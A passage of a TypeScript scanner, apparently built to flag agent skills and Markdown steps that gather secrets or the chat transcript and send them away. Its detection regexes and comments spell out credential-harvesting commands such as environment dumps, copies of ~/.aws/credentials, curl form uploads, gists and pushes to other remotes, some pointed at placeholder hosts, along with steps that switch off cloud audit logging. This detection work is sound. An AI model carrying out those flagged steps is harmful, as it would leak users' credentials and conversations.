 * subdomains): the vendor's name must be the registrable domain, so `api.anthropic-edge.example` is not.
 */
function vendorHost(prefix: string, host: string): boolean {
  const name = host.toLowerCase().replace(/\.$/, '');
  const domains = VENDOR_DOMAINS[prefix] ?? [`${prefix.toLowerCase()}.com`, `${prefix.toLowerCase()}.ai`, `${prefix.toLowerCase()}.io`];
  return domains.some((domain) => name === domain || name.endsWith(`.${domain}`));
}

/** The agent's own instructions named in words: its system prompt, developer or hidden instructions. */
const AGENT_INSTRUCTIONS = /\b(?:system (?:prompt|message)s?|system\s+(?:and|or|\/)\s+(?:[\w-]+\s+)?(?:text|instructions|prompts?)|(?:system|hidden|developer)\s+(?:text|instructions)|(?:setup|initial|project)\s+(?:text|instructions)\s+(?:you were|you've been|you have been|you are)\s+(?:given|told|shown|operating under)|hidden instructions|your instructions|instructions\s+you\s+(?:are|were)\s+(?:operating|working|running|acting)\s+under|system[- ]level\s+(?:and\s+[\w-]+\s+)?(?:ones|instructions|rules|prompts?)|(?:system and )?developer instructions)\b/i;

/** Whether what an action sends includes the agent's own instructions (its system prompt). */
function leaksInstructions(action: Action): boolean {
  return AGENT_INSTRUCTIONS.test(`${action.context ?? ''} ${action.evidence}`);
}

/** What a dump of every environment variable is called as a secret: every token the user has set, never one the entry declares. */
const WHOLE_ENVIRONMENT = 'the whole environment';

/** A shell command that dumps the environment (`env > f`, `printenv | sort`, `env | grep … > f`); what it holds is followed to where it is sent (`writtenNames`). */
const ENVIRONMENT_DUMP = /(?:^|[|;&({]\s*)(?:env|printenv|export\s+-p)\s*(?:$|[|>;&)}])/m;

/** An assignment whose value is made from a secret variable (`k=$(printf '%s' "${NETLIFY_AUTH_TOKEN:-…}" | cut -c1-24)`). */
const SECRET_COPIED = /^\s*(?:export\s+|local\s+)?[A-Za-z_]\w*=[^\n]*?(\$\{?[A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|_PAT)\b)/;
/** A branch or tag a session named with something that holds a secret. */
const SECRET_REF = 'git:ref';
/** What a session has committed once `git add`/`git commit` took something that holds a secret. */
const STAGED_COMMIT = 'git:commit';
/** A push to a remote other than origin or upstream. */
const PUSH_ELSEWHERE = /\bgit\s+push\s+(?:-\S+\s+)*(?!(?:origin|upstream)\b)[\w.][\w.-]*/;

/** A pipeline that then drops the secret names (`env | grep '^GITHUB_' | grep -v TOKEN`). */
const SECRETS_FILTERED_OUT = /\|\s*grep\s+-\w*v\w*\s+[^|\n]*(?:TOKEN|SECRET|KEY|PASS|AUTH|CRED)/i;

/** The names a shell command writes to: a redirection or `tee`, `-o`/`--output`, the archive `tar -cf`/`zip` makes, the last argument of `cp`/`mv`, a variable it sets. */
function writtenNames(text: string): string[] {
  const out: string[] = [];
  const name = (raw: string) => raw.replace(/["']/g, '').replace(/\/+$/, '');
  for (const match of text.matchAll(/(?:\d?>>?|\btee\s+(?:-a\s+)?)\s*("[^"]+"|'[^']+'|[^\s|;&)]+)/g)) if (!/^\/dev\//.test(match[1])) out.push(name(match[1]));
  for (const match of text.matchAll(/\s(?:-o|-out|--output)[\s=]+("[^"]+"|'[^']+'|[^\s|;&)]+)/g)) out.push(name(match[1]));
  const archive = /\b(?:tar\s+-?[a-zA-Z]*c[a-zA-Z]*f|zip\s+(?:-\S+\s+)*)\s*("[^"]+"|'[^']+'|[^\s|;&)]+)/.exec(text);
  if (archive) out.push(name(archive[1]));
  const copy = /^\s*(?:cp|mv|install|rsync|ditto)\b[^|;&\n]*\s("[^"]+"\/?|'[^']+'\/?|[^\s|;&)]+)\s*(?:2>[^\s]*)?\s*$/.exec(text);
  if (copy) out.push(name(copy[1]));
  const assigned = /^\s*(?:export\s+|local\s+)?([A-Za-z_]\w*)=/.exec(text);
  if (assigned) out.push(`$${assigned[1]}`);
  return out.filter((written) => written !== '' && written !== '.' && written !== '-');
}

/** Whether a command reads `name` (a path, or `$VAR` as `$VAR`/`${VAR}`). */
function readsName(text: string, name: string): boolean {
  if (/^\$[A-Za-z_]\w*$/.test(name)) return new RegExp(`\\$\\{?${name.slice(1)}\\b`).test(text);
  if (text.includes(name)) return true;
  // `git add` of the folder that holds it, of the whole tree (`-A`, `.`), or forced past .gitignore (`-f`) stages it.
  const add = /^\s*git\s+add\b([^\n;&|]*)/.exec(text)?.[1];
  if (add === undefined || name.startsWith('$') || name.startsWith('/')) return false;
  if (/\s(?:-A|--all|-f|--force|\.)(?=\s|$)/.test(add)) return true;
  return add.split(/\s+/).some((path) => {
    const folder = path.replace(/["']/g, '').replace(/^\.\//, '').replace(/\/+$/, '');
    return folder !== '' && !folder.startsWith('-') && name.replace(/^\.\//, '').startsWith(`${folder}/`);
  });
}

/** A statement that goes on to order something ("Since X doesn't block exclusions, the agent excludes the whole profile"). */
const ORDERS_IN_STATEMENT = /\b(?:so|therefore|since|because|then|the\s+agent|you|we)\b[^.\n]*\b(?:add|adds|exclude|excludes|run|runs|set|sets|disable|disables|turn\w*\s+off|allow|allows|whitelist\w*)\b/i;

/** A statement of what something does not do (`X doesn't block Y`, "Defender does not scan inside the VHDX"), not an order. */
const STATES_BEHAVIOUR = /^(?![\W_]*(?:add|set|turn|disable|exclude|run|switch|stop|allow|whitelist|bypass|open|remove|delete|clear|uninstall|kill)\b)[^.\n]*?\b(?:doesn't|does\s+not|won't|will\s+not|can't|cannot|isn't|aren't|is\s+not|are\s+not)\s+(?:\w+\s+){0,2}?(?:block|scan|stop|prevent|apply|affect|cover|need|matter|check|protect|inspect|catch|see|quarantine|touch|flag|detect)\w*\b/i;

/** A sentence that asks or reports which protections are off ("Reports which … protections are switched off or weakened"), not one that turns them off. */
const REPORTS_STATE = /(?:^|\bdescription:\s*)[\W_]*(?:(?:this\s+(?:skill|tool|script|check)|it)\s+)?(?:reports?|shows?|lists?|checks?|tells?|finds?|detects?|inventories|flags?|audits?)\b[^.\n;]{0,60}?\b(?:which|whether|if|what)\b[^.\n;]{0,120}?\b(?:is|are|was|were|has\s+been|have\s+been|got)\s+(?:\w+\s+){0,2}?(?:switched\s+off|turned\s+off|disabled|weakened|stopped|off)\b(?![^.\n]*\b(?:and|then)\s+(?:switch|turn|disable|stop)\b)/i;
/** A past act of someone else's that a finding explains ("someone ran `spctl --master-disable`", "the attacker disabled …"). */
const SOMEONE_DID = /\b(?:someone|somebody|an?\s+attacker|the\s+attacker|attackers|malware|an?\s+intruder|a\s+previous\s+(?:admin|user|install\w*))\s+(?:(?:has|had|may\s+have|probably|likely)\s+)?(?:ran|run|used|set|disabled|turned|switched|stopped|added|changed|executed)\b/i;

/** Whether a sentence only states what something does not do: no code in it, and nothing it goes on to order. */
function statesBehaviour(sentence: string): boolean {
  return STATES_BEHAVIOUR.test(sentence) && !sentence.includes('`') && !ORDERS_IN_STATEMENT.test(sentence);
}

/**
 * Protections of a repository, an application or a cloud account that everyone working on it relies on: the default
 * branch's protection and required signatures or rulesets deleted, Django's CSRF middleware taken out, the account's audit
 * trail, configuration recorder, threat detection or log exports stopped or deleted.
 */
const SHARED_SAFETY_NET = /\/branches\/[^\s/"']+\/protection\b(?:\/required_signatures)?|\/rulesets\/\S+|\bprotected_branches\/\S+|\bCsrfViewMiddleware\b|\bcan_approve_pull_request_reviews\b/;

/** A protection the defence-off words matched that belongs to a cloud account: its audit trail, recorder, threat detection or log exports. */
const CLOUD_SAFETY_NET = /\b(?:cloudtrail|guardduty|configservice|securityhub|macie2|inspector2|accessanalyzer|delete-flow-logs|security\s+pricing|pricingTier|diagnostic-settings|log-profiles|logging\s+sinks|enable_logging|RecorderStatus|stop_logging|delete_trail|delete_detector|update_detector|\w*_configuration_recorder|disable_security_hub|(?:StopLogging|DeleteTrail|DeleteDetector|StopConfigurationRecorder|DisableSecurityHub)Command)\b/i;

/** A session that points origin's push elsewhere (`git remote set-url --add --push origin https://…`, `git remote set-url origin …`): the host it adds. */
const ORIGIN_REPOINTED = /\bgit\s+remote\s+set-url\s+(?:--add\s+|--push\s+)*(?:origin|upstream)\s+["']?(?:https?:\/\/|ssh:\/\/)?(?:[\w.-]+@)?([a-z0-9-]+(?:\.[a-z0-9-]+)+)/i;

/**
 * A list item that names a file the agent is to create in the project as a copy of a credential
 * (`` `repro/aws-credentials` – a copy of `~/.aws/credentials` ``, "`out/kubeconfig`: output of
 * `kubectl config view --raw`"): the step written in words, read as the copy it orders.
 */
const LISTED_COPY = /^\s*(?:[-*+]|\d+[.)])\s+`([\w.][\w./-]*)`\s*(?:[–—:-]|is|holds)\s*(?:an?\s+|the\s+)?(?:exact\s+|verbatim\s+|full\s+|raw\s+)?(?:copy|output|contents?|dump)\s+of\s+(.+)$/gim;

/** The environment filtered down to its secrets (`env | grep -E '^(AWS_|ARM_|TF_VAR_|PULUMI_)'`, `printenv | grep -i token`). */
const ENVIRONMENT_SECRET_SWEEP = /\b(?:env|printenv)\s*\|\s*(?:e?grep|rg)\b[^|\n]*(?<![A-Za-z0-9])(?:AWS|ARM|AZURE|GOOGLE|GCP|GCLOUD|TF_VAR|TF_TOKEN|TFE|PULUMI|GITHUB|GH|GITLAB|NPM|NODE_AUTH|CODECOV|SLACK|STRIPE|OPENAI|ANTHROPIC|SNOWFLAKE|DATABRICKS|KAGGLE|HF|DBT|PG|OP|BW|VAULT|TOKEN|SECRET|PASSW\w*|API_?KEY|ACCESS_?KEY|CREDENTIAL\w*)(?![a-z])/i;

/** A file the steps have the agent write, with a list of what goes in it ("Write `docs/_environment.md` containing:"). */
const WRITTEN_WITH_LIST = /\b(?:write|create|save|generate|produce|add)\s+(?:a\s+file\s+)?`((?:\.\/)?[\w.-]+(?:\/[\w.-]+)*\.\w+)`\s+(?:containing|that\s+(?:contains|holds|lists)|with)\s*:\s*$/i;

/** Commands that look at a file without reading what it holds (`ls -l`, `stat`, `test -f`, `[ -f … ]`). */
const LOOKS_AT_ONLY = /^\s*(?:ls|stat|test|file|du|\[\[?)\s(?:(?![|;&]).)*(?:$|&&\s*(?:echo|printf)\s+["']?[\w\s]*["']?\s*(?:>>?\s*\S+)?\s*$)/;

/** Folders every program writes into (`/tmp`, the home folder, the working folder): a file written there does not make the folder a bundle. */
const SHARED_ROOT = /^(?:\.|~|\/|\/tmp|\/var\/tmp|\/dev|\$\{?(?:HOME|TMPDIR|TMP|TEMP|PWD|RUNNER_TEMP)\}?|~\/(?:Downloads|Desktop|Documents))$/;

/** A mail sent to an address written out (`send --to profiles@store.example …`, `mutt -s … -- ops@x.example`): the address's domain receives what is attached. */
const MAIL_RECIPIENT = String.raw`["'<]?[\w.+-]+@([a-z0-9-]+(?:\.[a-z0-9-]+)+)`;
const MAILED_TO = new RegExp(String.raw`(?:--to[\s=]+|--recipients?[\s=]+|\s-t\s+|\bmutt\b[^\n]*\s--\s+|\bmailx?\b[^\n]*\s)` + MAIL_RECIPIENT, 'i');
/** The domains of the recipients an option names, each (`--to a@x.example`, `-- b@y.example`). */
const MAILED_TO_ALL = new RegExp(String.raw`(?:--to[\s=]+|--recipients?[\s=]+|\s-t\s+|\s--\s+)` + MAIL_RECIPIENT, 'gi');

/** A step in words that puts something "here" (into the field or file the document describes). */
const HERE_STAGED = /\b(?:copy|save|write|put|dump|store|paste|place|include)\b(?:[^.\n]|\.(?=\S)){0,120}?\b(?:here|in(?:to)?\s+(?:this|that)\s+(?:field|file|section|key|object|entry))\b/i;


/** An upload to a code forge that publishes it wherever it is (`gh gist create`, `gh release upload`). */
const FORGE_UPLOAD = /\bgh\s+(?:gist|release)\b(?:\s+\w+)?/;

/** A shell command that sends a file off the machine: a form upload, a posted file, a gist, a copy to a remote host. */
const SENDS_FILE =
  /\bcurl\b[^\n]*?(?:\s-F\s*["']?[\w.-]+=[@<]|\s--form\s+["']?[\w.-]+=[@<]|\s--data(?:-binary|-raw|-urlencode)?[\s=]["']?@|\s-d\s*["']?@|\s-T\s|\s--upload-file\s)|\bwget\b[^\n]*--post-file|\bgh\s+gist\s+create\b|\bgh\s+release\s+upload\b|\b(?:scp|rsync)\b[^\n]*\s[\w.-]+@[\w.-]+:|\b(?:nc|ncat|netcat)\b[^\n]*<\s*\S|\brclone\s+(?:copy|copyto|sync|move|moveto)\b|\s--attach(?:ment)?[\s=][^\n]*|\bmutt\b[^\n]*\s-a\s|\bmailx?\b[^\n]*\s-A\s/;

const BLOCKS_SESSION = '#blocks';

/**
 * The shell session a code unit belongs to: the blocks of one Markdown file are steps the agent runs in
 * order, one session; a script file is a session of its own.
 */
export function shellSessionKey(unit: Pick<CodeFacts, 'unit' | 'file'>): string {
  return unit.unit.includes('#') ? `${unit.file}${BLOCKS_SESSION}` : unit.unit;
}

/**
 * Scripts and code blocks that gather secrets into a file and send a file away: a loop that cats
 * `~/.aws/credentials` into a bundle, then `curl -F b=@bundle https://…` or `gh gist create --public`.
 * One shell unit is one flow: the names in between (`$bundle`, `/tmp/out`) need not be followed. A
 * destination the script does not name (a variable the user sets) is the user's choice; a gist or a
 * release leaves the machine wherever it is.
 */
export function shellFlowActions(facts: readonly CodeFacts[], files: readonly SourceFile[] = []): Action[] {
  const out: Action[] = [];
  // A block in a section that presents it as a sample ("## Reading the report", "## Red flags", a quotation) shows commands; it runs none.
  const contextOf = markdownContext(files);
  // The shell blocks of one Markdown file are steps of one session the agent runs in order (a variable set in
  // step 1 is sent in step 3): they are read as one unit. A script file is a unit of its own.
  const units = new Map<string, CodeFacts>();
  for (const unit of facts) {
    if (unit.language !== 'shell') continue;
    const block = unit.unit.includes('#');
    const key = shellSessionKey(unit);
    const shownOnly = (line: number) => block && contextOf(unit.file, line).shown;
    // A command continued over lines (`curl … \⏎ -F "a=@file"`) is read as the one line the shell runs.
    const own = { ...unit, commands: unit.commands.filter((command) => !shownOnly(command.line)).map((command) => ({ ...command, text: command.text.replace(/\\\r?\n\s*/g, ' ') })), strings: unit.strings.filter((string) => !shownOnly(string.line)) };
    const seen = units.get(key);
    units.set(key, seen ? { ...seen, commands: [...seen.commands, ...own.commands], strings: [...seen.strings, ...own.strings] } : own);
  }
  // Copies ordered in a list of the same Markdown file join its session as the commands they stand for.
  for (const file of files) {
    if (file.fileClass !== 'text' || file.language !== 'markdown') continue;
    const unit = units.get(shellSessionKey({ unit: '#', file: file.path }));
    if (!unit) continue;
    for (const match of file.text.matchAll(LISTED_COPY)) {
      const source = match[2]!;
      const printed = /`([^`]+)`/.exec(source)?.[1] ?? source;
      if (!SENSITIVE_FILE.test(source) && !CREDENTIAL_GETTER.test(printed)) continue;
      const line = file.text.slice(0, match.index).split('\n').length;
      const from = SENSITIVE_FILE.exec(source)?.[0] ?? printed;
      unit.commands.push({ name: 'cp', text: CREDENTIAL_GETTER.test(printed) ? `${printed} > ${match[1]}` : `cp ${from} ${match[1]}`, line });
    }
    // A file the steps write in words with a list of what it holds ("Write `docs/_environment.md` containing:" over
    // "- the matching table from `~/.snowflake/connections.toml`"): each credential file listed is copied into it.
    const lines = file.text.split('\n');
    lines.forEach((text, at) => {
      // The lead-in may wrap ("… Write⏎`docs/warehouse/_environment.md` containing:").
      const written = /:\s*$/.test(text) ? WRITTEN_WITH_LIST.exec(`${at > 0 ? lines[at - 1] : ''} ${text}`)?.[1] : undefined;
      if (written === undefined) return;
      for (let next = at + 1; next < lines.length && next <= at + 24; next += 1) {
        const item = lines[next]!;
        if (item.trim() === '') continue;
        if (!/^\s*(?:[-*+]|\d+[.)])\s|^\s{2,}\S/.test(item)) break;
        const secret = SENSITIVE_FILE.exec(item)?.[0];
        if (secret === undefined || KEPT_OUT.test(item) || (REDACTED.test(item) && !KEPT_WHOLE.test(item))) continue;
        unit.commands.push({ name: 'cp', text: `cp ${secret} ${written}`, line: next + 1 });
      }
    });
  }
  for (const [key, unit] of units) {
    const session = key.endsWith(BLOCKS_SESSION);
    const texts = [...unit.commands.map((command) => command.text.replace(EXCLUDED_PATH, ' ')), ...unit.strings.filter((string) => !unit.commands.some((command) => command.text.includes(string.text) && !command.text.replace(EXCLUDED_PATH, ' ').includes(string.text))).map((string) => string.text.replace(EXCLUDED_PATH, ' '))];
    // What a command takes that is secret: a credential file, the environment's secrets, the whole environment
    // (not once a `grep -v` has dropped the secret names); it counts where what holds it is sent.
    const secretOf = (text: string): string | undefined => {
      const plain = text.replace(EXCLUDED_PATH, ' ');
      if (SECRETS_FILTERED_OUT.test(plain)) return secretFileIn(plain);
      // A login a tool prints or a key the cloud mints (`gh auth status -t`, `aws iam create-access-key > key.json`) is a secret too.
      // A secret variable copied into a variable of the session (`site_key=$(printf '%s' "$NETLIFY_AUTH_TOKEN" | cut -c1-24)`) is taken too.
      // In the steps of a Markdown session a secret variable copied into a variable (`site_key=$(printf '%s' "$NETLIFY_AUTH_TOKEN" | cut -c1-24)`) is followed
      // to where that variable goes; a script's own login (`export GH_TOKEN="${GITHUB_TOKEN}"`) is its use, not a copy.
      return secretFileIn(plain) ?? ENVIRONMENT_SECRET_SWEEP.exec(plain)?.[0] ?? (ENVIRONMENT_DUMP.test(plain) ? WHOLE_ENVIRONMENT : undefined) ?? CREDENTIAL_GETTER.exec(plain)?.[0] ?? (session ? SECRET_COPIED.exec(plain)?.[1] : undefined);
    };
    // In the steps of a Markdown session, followed in the order they run: what a command writes (a file, a
    // folder, an archive, a variable) after taking a secret, or after reading something that holds one, holds
    // it too, and an upload sends a secret only when what it uploads holds one (a keystore used in place and a
    // build uploaded later do not). A script is one program: a secret it gathers and a file it sends go together,
    // however its functions and groups pass them along.
    const held = new Set<string>();
    // Folders holding a secret, each with the pattern that finds it named whole (`tar czf b.tgz vault`, `"$DIAG"/`), not inside a longer name (`vault-2026.tgz`).
    const heldFolders = new Map<string, RegExp>();
    const holdFolder = (folder: string) => {
      if (!heldFolders.has(folder)) heldFolders.set(folder, folder.startsWith('$') ? new RegExp(`(?<![\\w.-])${escapeRegExp(folder)}(?![\\w-]|\\.\\w)|\\$\\{?${escapeRegExp(folder.slice(1))}\\b(?![\\w-]|\\.\\w)`) : new RegExp(`(?<![\\w.-])${escapeRegExp(folder)}(?![\\w-]|\\.\\w)`));
    };
    // What the session's variables stand for (`DIAG=/tmp/wh-diag-$(date +%s)`): a path held under its value is held under its name too.
    const aliases = new Map<string, string>();
    for (const command of unit.commands) {
      const assigned = /^\s*(?:export\s+)?([A-Za-z_]\w*)=["']?((?:\$\([^)\n]*\)|\$(?!\()|[^\s"';&|$()])+)["']?\s*$/.exec(command.text);
      const value = assigned?.[2]!.replace(/\/+$/, '');
      if (assigned && value !== undefined && /[/$]/.test(value) && !aliases.has(value)) aliases.set(value, `$${assigned[1]}`);
    }
    const repointed = texts.map((text) => ORIGIN_REPOINTED.exec(text)?.[1]).find((host) => host !== undefined && !isLocalHost(host));
    // A credential file handed to the program that owns it (`security import dist.p12`, `twine --config-file ~/.pypirc`) is used, not taken.
    // A listing or a test of a credential file (`ls -l ~/.aws/credentials > files.txt`, `test -f … && echo present`) takes nothing of it.
    const takenBy = (command: (typeof unit.commands)[number]) => (readsOwnCredential(command.name, command.text) || LOOKS_AT_ONLY.test(command.text.replace(/\s\d?>&\d\b/g, '')) ? undefined : secretOf(command.text));
    let secret: string | undefined = session ? undefined : [...unit.commands.map(takenBy), ...unit.strings.filter((string) => !unit.commands.some((command) => command.text.includes(string.text))).map((string) => secretOf(string.text))].find((found) => found !== undefined);
    let send: (typeof unit.commands)[number] | undefined = session || secret === undefined ? undefined : unit.commands.find((command) => SENDS_FILE.test(command.text));
    for (const command of session ? [...unit.commands].sort((a, b) => a.line - b.line) : []) {
      const taken = takenBy(command);
      const carried = [...held].find((name) => readsName(command.text, name)) ?? [...heldFolders].find(([, pattern]) => pattern.test(command.text))?.[0];
      // A commit that holds a secret leaves with a push to a remote other than origin (`git push preview HEAD:…`).
      const pushedAway = held.has(STAGED_COMMIT) && (PUSH_ELSEWHERE.test(command.text) || (/\bgit\s+push\b/.test(command.text) && repointed !== undefined));
      // A variable that holds a secret written into the address a request goes to (`curl "https://…?key=${KK}"`).
      const inAddress = carried !== undefined && carried.startsWith('$') && /^\s*(?:sudo\s+)?(?:curl|wget|http|https|xh|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\s/.test(command.text) && new RegExp(`(?:https?|wss?)://[^\\s"'\x60]*\\$\\{?${carried.slice(1)}\\b`).test(command.text);
      // A branch or tag named with a secret (`git switch -c "preview/${slug}-${site_key}"`) is published with any push: every
      // reader of the repository, and every webhook on its pushes, gets the name.
      const namedRefPushed = held.has(SECRET_REF) && /\bgit\s+push\b/.test(command.text);
      if ((SENDS_FILE.test(command.text) && (taken !== undefined || carried !== undefined)) || pushedAway || inAddress || namedRefPushed) {
        send = command;
        secret ??= taken;
        break;
      }
      if (taken === undefined && carried === undefined) continue;
      secret ??= taken;
      for (const written of writtenNames(command.text)) {
        // A block reads its own variables expanded (`"/tmp/wh-diag-$(date +%s)"/adc.json`); a later block names the
        // same place by the variable (`"$DIAG"`): both spellings hold it.
        const alias = [...aliases].find(([value]) => written === value || written.startsWith(`${value}/`));
        for (const name of alias === undefined ? [written] : [written, `${alias[1]}${written.slice(alias[0].length)}`]) {
          held.add(name);
          // A file written into a folder of the session's own (`"$DIAG"/adc.json`, `bundle/env.txt`) is in that folder:
          // an archive or upload of the folder carries it. Shared roots (`/tmp`, `~`, `.`) hold everything and say nothing.
          for (let folder = /^(.+)\/[^/]+$/.exec(name)?.[1]; folder !== undefined && !SHARED_ROOT.test(folder); folder = /^(.+)\/[^/]+$/.exec(folder)?.[1]) holdFolder(folder);
          // An archive written beside the folder it packs (`cd target && tar czf ../site.tgz .`) is sent by its own name.
          if (/^\.\.?\/[\w.-]+\.\w+$/.test(name)) held.add(name.replace(/^\.\.?\//, ''));
        }
      }
      if (/^\s*git\s+(?:add|commit)\b/.test(command.text)) held.add(STAGED_COMMIT);
      if (carried !== undefined && /^\s*git\s+(?:switch\s+(?:-\w+\s+)*-[cC]|checkout\s+(?:-\w+\s+)*-[bB]|branch|tag)\b/.test(command.text)) held.add(SECRET_REF);
    }
    if (!secret || !send) continue;
    const how = SENDS_FILE.exec(send.text)?.[0] ?? 'git push';
    const refPushed = held.has(SECRET_REF) && !SENDS_FILE.test(send.text) && !PUSH_ELSEWHERE.test(send.text);
    // A URL held in a variable the unit sets (`RECAP_CACHE=https://cache.example/v1` then `"$RECAP_CACHE/save"`) is the skill's, not the user's.
    const assigned = new Map(texts.flatMap((text) => [...text.matchAll(/(?:^|[\s;&])([A-Za-z_]\w*)=["']?(https?:\/\/[^\s"'`;]+)/g)].map((match) => [match[1], match[2]] as const)));
    // A git remote the session adds (`git remote add preview git@host:repo.git`) is where `git push preview` goes.
    const remotes = new Map(texts.flatMap((text) => [...text.matchAll(/\bgit\s+remote\s+add\s+(\S+)\s+["']?(?:https?:\/\/|ssh:\/\/)?(?:[\w.-]+@)?([a-z0-9-]+(?:\.[a-z0-9-]+)+)/gi)].map((match) => [match[1], `https://${match[2]}/`] as const)));
    if (repointed !== undefined) remotes.set('origin', `https://${repointed}/`);
    const pushedTo = /\bgit\s+push\s+(?:-\S+\s+)*([\w.][\w.-]*)/.exec(send.text)?.[1];
    const viaVariables = [...[...send.text.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map((match) => assigned.get(match[1])), pushedTo === undefined ? undefined : remotes.get(pushedTo)].filter((url): url is string => url !== undefined);
    // A pushed ref's name reaches the hooks the session registers on the repository's pushes (`config[url]=https://hooks.host/…`).
    const hookHosts = refPushed ? texts.flatMap((text) => [...text.matchAll(/\bconfig\[url\]=["']?(https?:\/\/[^\s"']+)/g)].flatMap((match) => destinations(match[1]!))) : [];
    const hosts = [...new Set([...destinations(send.text), ...viaVariables.flatMap((url) => destinations(url)), ...hookHosts])];
    const forge = FORGE_UPLOAD.test(how) || (refPushed && hookHosts.length === 0);
    out.push({
      file: unit.file,
      line: send.line,
      evidence: shown(`${secret} … ${send.text}`),
      origin: 'command',
      secret,
      sink: { kind: forge ? 'forge' : 'network', text: refPushed ? 'a branch or tag name pushed with the repository' : forge ? how.trim() : how === 'git push' ? `a commit pushed to ${pushedTo ?? 'another remote'}` : `a file sent by ${how.trim().split(/\s/)[0]}`, hosts },
      userTarget: !forge && hosts.length === 0,
      documentation: false,
    });
  }
  return out;
}

/** Calls that send an e-mail message. */
const MAIL_SEND = /\b(?:send_message|sendmail|send_mail|sendMail|messages\.send|send_email|sendEmail|send_raw_email|SendEmailCommand|SendRawEmailCommand)\s*\(|\/(?:v3\/)?mail\/send\b|\bapi\.postmarkapp\.com\/email\b|\bapi\.(?:eu\.)?mailgun\.net\/v3\/[^\s"'`]*\/messages\b/;
/** A name bound to text holding an address at a fixed domain (`JOURNAL = "x" + user + "@relay.example"`). */
const ADDRESS_CONSTANT = /^\s*(?:(?:const|let|var)\s+)?([A-Za-z_]\w*)\s*=[^\n]*["'`][^"'`\n]*@[a-z0-9-]+(?:\.[a-z0-9-]+)+["'`]/gim;
/** An address literal at a fixed domain inside a call. */
/** A settings key whose value is a mail address (`"journal_address": "j@host"`, `archive_to: j@host`). */
const CONFIGURED_ADDRESS = /["']?([A-Za-z_][\w-]*)["']?\s*[:=]\s*["']?([^\s"'@,{}\[\]]+@[a-z0-9-]+(?:\.[a-z0-9-]+)+)["']?\s*(?:,|$|\n|\})/gi;
const ADDRESS_LITERAL = /["'`][^"'`\s@]*@[a-z0-9-]+(?:\.[a-z0-9-]+)+["'`]/i;

/**
 * Mail code that adds a recipient of its own: every message the user sends also goes to an address the
 * skill hard-codes (a "journal", "archive" or Bcc copy). The user's mail is the source; the fixed address
 * the sink. Recipients that come from the user's input are the skill's job and are not reported.
 */
/**
 * The conversation gathered into a file the steps name ("Create `~/.cache/retro/notes.json`. Each time, add: … the complete
 * transcript of this chat …") and a script of the skill that sends that file over the network (`requests.post(…,
 * data=open(path).read())` for a path ending in `notes.json`): what the steps gather, the script sends.
 */
/** A step that fills a file ("Create `notes.json`. Each time, add: …", "append the transcript", "save … to"). */
const GATHERS_INTO_FILE = /\b(?:add|adds|append|appends|write|writes|save|saves|record|records|log|logs|store|stores|keep|keeps|put|puts|copy|copies|dump|dumps|collect|collects|gather|gathers|create|creates|capture|captures|include|includes|paste|pastes)\b/i;

export function gatheredFileUploads(instructions: readonly Instruction[], facts: readonly CodeFacts[]): Action[] {
  const senders = facts.filter((unit) => !unit.file.endsWith('.md') && unit.calls.some((call) => NETWORK_SINK_CALL.test(call.callee)));
  if (senders.length === 0) return [];
  for (const [index, instruction] of instructions.entries()) {
    if (instruction.script || instruction.origin !== 'prose' || !(hasWord('context', readable(instruction.text)) || CONVERSATION_HELD.test(instruction.text))) continue;
    // The file is named by the step or by the lead-in of its list.
    const lead = [...instructions.slice(Math.max(0, index - 8), index)].reverse().find((other) => other.file === instruction.file && other.origin === 'prose' && /\S\.(?:json|jsonl|md|txt|log|ya?ml|csv)\b/.test(other.text));
    // A step (or its list's lead-in) that puts something into a file, or names the agent's own transcripts (`~/.claude/projects/*`);
    // a sentence that only names a file the skill reads ("Check a project's composer.json for …") gathers nothing into it.
    if (!GATHERS_INTO_FILE.test(instruction.text) && !GATHERS_INTO_FILE.test(lead?.text ?? '') && !/~\/\.claude\/projects\b/.test(instruction.text)) continue;
    const named = [instruction.text, lead?.text ?? ''].flatMap((text) => text.match(/[\w.~\/-]*[\w-]\.(?:json|jsonl|md|txt|log|ya?ml|csv)\b/g) ?? []).map((path) => path.split('/').pop()!).filter((name) => name.length >= 6 && !/^(?:SKILL|README)\.md$/i.test(name));
    for (const name of named) {
      const unit = senders.find((candidate) => candidate.strings.some((string) => string.text.endsWith(name)));
      if (unit === undefined) continue;
      // The call that sends, not the one that only builds the request (`urllib.request.Request(…)` before `urlopen(req)`).
      const calls = unit.calls.filter((call) => NETWORK_SINK_CALL.test(call.callee));
      const send = calls.find((call) => !/(?:^|\.)Request$/.test(call.callee)) ?? calls[0]!;
      const hosts = [...new Set(unit.strings.flatMap((string) => urlHosts(string.text).map((entry) => entry.host)))].filter((host) => !isLocalHost(host));
      if (hosts.length === 0) continue;
      return [{ file: instruction.file, line: instruction.line, evidence: shown(`${lead ? `${lead.text} ⏎ ` : ''}${instruction.text} ⏎ … ⏎ ${unit.file}:${send.line}: ${send.text.split('\n')[0]}`), origin: 'prose', context: CONVERSATION_HELD.exec(instruction.text)?.[0] ?? first('context', readable(instruction.text)) ?? 'the conversation', sink: { kind: 'network', text: send.text.split('\n')[0]!.slice(0, 80), hosts }, userTarget: false, documentation: false }];
    }
  }
  return [];
}

/** A fenced block of a Markdown file: its fence, then its text. */
const FENCED_BLOCK = /^[ \t]*(```|~~~)[^\n]*\n([\s\S]*?)^[ \t]*\1/gm;

/** A list a command takes from the text around it (`for f in <globs above>`, `<the files listed in the table>`). */
const LIST_FROM_TEXT = /<[^<>\n]{0,40}\b(?:above|below|listed|(?:the|this)\s+table|the\s+list)\b[^<>\n]{0,40}>/i;
/** An upload of a file held in a variable (`-F "f=@$f"`, `--data-binary @"$f"`, `-T "$f"`, `--post-file="$f"`, `files={"f": open(path, "rb")}`). */
const UPLOADS_VARIABLE_FILE = /(?:-F|--form)\s+["']?[\w.-]*=@["']?\$|--data(?:-binary)?\s+["']?@["']?\$|(?:-T|--upload-file)\s+["']?\$|--(?:post|body)-file[=\s]+["']?\$|\bfiles\s*=\s*\{[^}\n]*\bopen\s*\(\s*\w+|\b(?:data|content)\s*=\s*open\s*\(\s*\w+[^)\n]*\)\.read\(\)/;

/**
 * A block of a Markdown file that uploads each file of a list the text gives (`for f in <globs above>; do args+=(-F
 * "f=@$f")` … `curl https://…`), where that text names credential stores (a table of wallet folders, key files): the
 * stores are what the request carries, though no path is written in the command.
 */
export function listedFileUploads(files: readonly SourceFile[]): Action[] {
